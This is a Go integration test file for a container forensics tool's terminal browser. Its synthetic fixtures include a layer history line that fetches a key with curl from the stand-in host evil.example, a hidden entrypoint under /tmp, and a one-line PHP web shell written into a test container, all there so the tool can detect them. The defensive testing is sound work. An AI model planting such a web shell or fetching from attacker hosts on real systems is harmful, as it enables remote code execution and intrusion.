package integration

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/opencontainers/go-digest"
	ocispec "github.com/opencontainers/image-spec/specs-go/v1"

	"github.com/ctrforensics/ctrforensics/internal/testdaemon"
	"github.com/ctrforensics/ctrforensics/internal/testimage"
)

// browseImageName is the image the browse test explores: layer 1 deletes a
// directory and drops a key that layer 2 deletes again (hidden, still
// shipped), and the entrypoint lies in a hidden directory under /tmp.
const browseImageName = "docker.io/ctrforensics/browse:1"

func browseImage() *testimage.Image {
	return &testimage.Image{Name: browseImageName, Layers: []testimage.Layer{
		{CreatedBy: "ADD base /", Files: []testimage.File{
			testimage.Dir("/etc", 0o755), testimage.Reg("/etc/passwd", 0o644, "root:x:0:0::/root:/bin/sh\n"),
			testimage.Dir("/srv", 0o755), testimage.Dir("/srv/data", 0o755), testimage.Reg("/srv/data/db", 0o600, "rows\n"),
		}},
		{CreatedBy: "RUN curl -s http://evil.example/k > /root/.hidden_key && rm -rf /srv/data", Files: []testimage.File{
			testimage.Dir("/root", 0o700), testimage.Reg("/root/.hidden_key", 0o600, "SECRET-KEY-BYTES\n"),
			testimage.Whiteout("/srv/data"), testimage.Dir("/tmp", 0o1777), testimage.Dir("/tmp/.x", 0o755),
			testimage.Reg("/tmp/.x/run", 0o755, "#!/bin/sh\n"),
		}},
		{CreatedBy: "RUN rm /root/.hidden_key", Files: []testimage.File{testimage.Whiteout("/root/.hidden_key")}},
	}, Config: ocispec.ImageConfig{Entrypoint: []string{"/tmp/.x/run"}}}
}

// tmux drives a program in a detached 80x24 tmux session.
type tmux struct {
	t      *testing.T
	name   string
	status string // the file the browse command's exit status is written to
}

func startTmux(t *testing.T, args ...string) *tmux {
	t.Helper()
	if _, err := exec.LookPath("tmux"); err != nil {
		t.Fatal("tmux is needed (scripts/install-deps.sh installs it)")
	}
	tm := &tmux{t: t, name: fmt.Sprintf("ctrf-browse-%d", os.Getpid()), status: filepath.Join(t.TempDir(), "status")}
	// The exit status goes to a file: tmux's pane_dead_status is empty for
	// some exits, on some versions.
	args = append([]string{"sh", "-c", `"$@"; echo $? > ` + tm.status, "sh"}, args...)
	cmd := append([]string{"new-session", "-d", "-s", tm.name, "-x", "80", "-y", "24"}, args...)
	if out, err := exec.Command("tmux", cmd...).CombinedOutput(); err != nil {
		t.Fatalf("tmux: %v: %s", err, out)
	}
	exec.Command("tmux", "set-option", "-t", tm.name, "remain-on-exit", "on").Run()
	t.Cleanup(func() { exec.Command("tmux", "kill-session", "-t", tm.name).Run() })
	return tm
}

func (tm *tmux) send(keys ...string) {
	tm.t.Helper()
	if out, err := exec.Command("tmux", append([]string{"send-keys", "-t", tm.name}, keys...)...).CombinedOutput(); err != nil {
		tm.t.Fatalf("tmux send-keys %q: %v: %s", keys, err, out)
	}
}

func (tm *tmux) screen() string {
	out, _ := exec.Command("tmux", "capture-pane", "-p", "-t", tm.name).Output()
	return string(out)
}

// waitFor waits until the screen shows every part and has stopped changing
// (a redraw can be half done when the parts first appear), and returns it.
func (tm *tmux) waitFor(what string, parts ...string) string {
	tm.t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for {
		s := tm.screen()
		ok := true
		for _, p := range parts {
			ok = ok && strings.Contains(s, p)
		}
		if ok {
			time.Sleep(200 * time.Millisecond)
			if again := tm.screen(); again == s {
				return s
			}
			continue
		}
		if time.Now().After(deadline) {
			tm.t.Fatalf("%s: the screen never showed %q:\n%s", what, parts, s)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// waitExit waits until the browse command has exited with status 0.
func (tm *tmux) waitExit() {
	tm.t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for {
		b, err := os.ReadFile(tm.status)
		if err == nil && strings.TrimSpace(string(b)) != "" {
			if got := strings.TrimSpace(string(b)); got != "0" {
				tm.t.Fatalf("browse exited with status %s:\n%s", got, tm.screen())
			}
			return
		}
		if time.Now().After(deadline) {
			tm.t.Fatalf("browse did not quit:\n%s", tm.screen())
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// escape sends Escape and waits until the filters are cleared: a key sent
// right after it would read as Alt+key.
func (tm *tmux) escape() {
	tm.t.Helper()
	tm.send("Escape")
	deadline := time.Now().Add(10 * time.Second)
	for strings.Contains(tm.screen(), "(esc clears)") {
		if time.Now().After(deadline) {
			tm.t.Fatalf("Escape did not clear the filters:\n%s", tm.screen())
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// TestBrowseInTmux explores an image in an 80x24 terminal: a hidden file
// with its bytes (text and hex), a deleted directory, a path filter, a
// finding next to the entry it names, and quitting.
func TestBrowseInTmux(t *testing.T) {
	ctx := h.ctx(t)
	if _, err := testdaemon.ImportImage(ctx, h.client, browseImage(), "overlayfs"); err != nil {
		t.Fatal(err)
	}
	host := captureHost(t)
	tm := startTmux(t, h.bin, "--address", h.daemon.Address, "-n", h.daemon.Namespace, "browse", browseImageName)
	tm.waitFor("start", "ctrforensics browse "+browseImageName, "RUN rm /root/.hidden_key", "enter view")
	s := tm.screen()
	if lines := strings.Split(strings.TrimRight(s, "\n"), "\n"); len(lines) > 24 {
		t.Errorf("%d lines in a 24-line terminal", len(lines))
	}
	// Layer 1 (one up from the top), only the hidden files.
	tm.send("Up")
	tm.waitFor("layer 1", "layer 1 ", "hidden 1")
	tm.send("h")
	s = tm.waitFor("hidden files", "H  -rw-------", ".hidden_key")
	if strings.Contains(s, "passwd") {
		t.Errorf("h shows only hidden entries:\n%s", s)
	}
	tm.send("Enter")
	tm.waitFor("viewer", "/root/.hidden_key  from layer 1, 17 bytes  [text]", "SECRET-KEY-BYTES")
	tm.send("x")
	tm.waitFor("hex", "[hex]", "53 45 43 52 45 54 2d 4b", "|SECRET-KEY-BYTES|", "00000010  0a ")
	tm.send("q")
	tm.send("h", "d")
	s = tm.waitFor("deleted directory", "D  drwxr-xr-x", "data/")
	if strings.Contains(s, "H  -rw") {
		t.Errorf("d shows only deleted entries:\n%s", s)
	}
	tm.escape()
	tm.send("/", "p", "a", "s", "s", "w", "Enter")
	s = tm.waitFor("filter", `filter "passw"`, "passwd")
	if strings.Contains(s, "run") {
		t.Errorf("the filter passw shows other entries:\n%s", s)
	}
	tm.escape()
	tm.send("/", "r", "u", "n", "Enter")
	tm.waitFor("finding next to the entry", "A! -rwxr-xr-x", "run", "! high CTRF-IMG-010")
	tm.escape()
	tm.send("q")
	tm.waitExit()
	compareHost(t, "after browse", host, captureHost(t))
}

// TestBrowseContainer shows a container's changes on top of its image, with
// the digest of a dropped file on the detail line.
func TestBrowseContainer(t *testing.T) {
	c := h.runContainer(t, "browse-ctr", "overlayfs")
	h.attack(t, c, `printf '<?php eval($_GET["c"]); ?>' > /var/www/html/shell.php`)
	tm := startTmux(t, h.bin, "--address", h.daemon.Address, "-n", h.daemon.Namespace, "browse", c.id)
	tm.waitFor("container layer", "ctrforensics browse container browse-ctr", "> ctr +", "container changes (diff)")
	tm.send("/", "s", "h", "e", "l", "l", "Enter")
	want := digest.FromString(`<?php eval($_GET["c"]); ?>`).Encoded()[:12]
	tm.waitFor("dropped file", "A  -rw-r--r--", "shell.php", "container 0:0 /var/www/html/shell.php "+want)
	tm.escape()
	tm.send("q")
}
